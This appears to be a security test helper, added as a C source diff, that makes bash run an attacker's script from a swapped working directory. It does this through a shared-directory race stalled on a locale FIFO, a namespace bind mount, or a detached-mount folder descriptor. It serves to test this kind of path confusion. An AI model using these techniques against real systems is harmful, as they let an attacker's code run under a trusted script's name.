@@ -1,0 +1,130 @@
+/* SPDX-License-Identifier: GPL-2.0-or-later */
+/*
+ * Has bash run a script by its bare name in a folder that is not what it seems, though at the exec its path is HONEST:
+ * `folders TRICK HONEST EVIL SCRIPT [WORD ...]`. In EVIL lie the attacker's own SCRIPT and, for `unmounted`, HONEST's
+ * path once more.
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/prctl.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#define SHELL "/usr/bin/bash"
+
+static const char *honest, *evil, *script;
+
+static void die(const char *what)
+{
+	fprintf(stderr, "%s: %s\n", what, strerror(errno));
+	exit(3);
+}
+
+static void run_script(char **words)
+{
+	words[-1] = SHELL;
+	execv(SHELL, words - 1);
+	die("exec");
+}
+
+static pid_t clone_with(int flags)
+{
+	return syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
+}
+
+/* The shell asks for its locale before it opens the script; there it waits until someone opens the other end. */
+static void make_pause(char *path, size_t size)
+{
+	snprintf(path, size, "%s/slow", evil);
+	mkdir(path, 0700);
+	snprintf(path, size, "%s/slow/LC_IDENTIFICATION", evil);
+	if (mkfifo(path, 0600) || setenv("LOCPATH", evil, 1) || setenv("LC_ALL", "slow", 1))
+		die("mkfifo");
+}
+
+/* Parent and child share their working directory, which the parent changes between the exec and the look at the script. */
+static void share_the_folder(char **words)
+{
+	char pause[4096];
+	int status;
+
+	make_pause(pause, sizeof(pause));
+	if (chdir(honest))
+		die("chdir");
+	if (!clone_with(CLONE_FS))
+		run_script(words);
+	if (open(pause, O_WRONLY) < 0 || chdir(evil))
+		die("open, chdir");
+	wait(&status);
+	exit(WEXITSTATUS(status));
+}
+
+static int open_mounted(void)
+{
+	char from[4096], to[4096];
+
+	snprintf(from, sizeof(from), "%s/%s", evil, script);
+	snprintf(to, sizeof(to), "%s/%s", honest, script);
+	if (mount(from, to, NULL, MS_BIND, NULL))
+		die("mount");
+	return open(honest, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+}
+
+static int open_unmounted(void)
+{
+	char path[4096];
+	int folder;
+
+	snprintf(path, sizeof(path), "%s%s", evil, honest);
+	if (mount(evil, evil, NULL, MS_BIND, NULL))
+		die("mount");
+	folder = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+	if (umount2(evil, MNT_DETACH))
+		die("umount");
+	return folder;
+}
+
+/* A child opens the folder in namespaces of its own; the two share their descriptors, and nothing else. */
+static void take_a_folder(int (*open_folder)(void), char **words)
+{
+	int ends[2], folder;
+
+	if (pipe2(ends, O_CLOEXEC))
+		die("pipe");
+	if (!clone_with(CLONE_FILES)) {
+		if (unshare(CLONE_NEWUSER | CLONE_NEWNS) || prctl(PR_SET_PDEATHSIG, SIGKILL))
+			die("unshare");
+		folder = open_folder();
+		if (write(ends[1], &folder, sizeof(folder)) == sizeof(folder))
+			pause();
+		exit(3);
+	}
+	if (read(ends[0], &folder, sizeof(folder)) != sizeof(folder) || fchdir(folder))
+		die("fchdir");
+	run_script(words);
+}
+
+int main(int argc, char **argv)
+{
+	if (argc < 5)
+		return 2;
+	honest = argv[2];
+	evil = argv[3];
+	script = argv[4];
+	if (!strcmp(argv[1], "shared"))
+		share_the_folder(argv + 4);
+	else if (!strcmp(argv[1], "mounted"))
+		take_a_folder(open_mounted, argv + 4);
+	else if (!strcmp(argv[1], "unmounted"))
+		take_a_folder(open_unmounted, argv + 4);
+	return 2;
+}
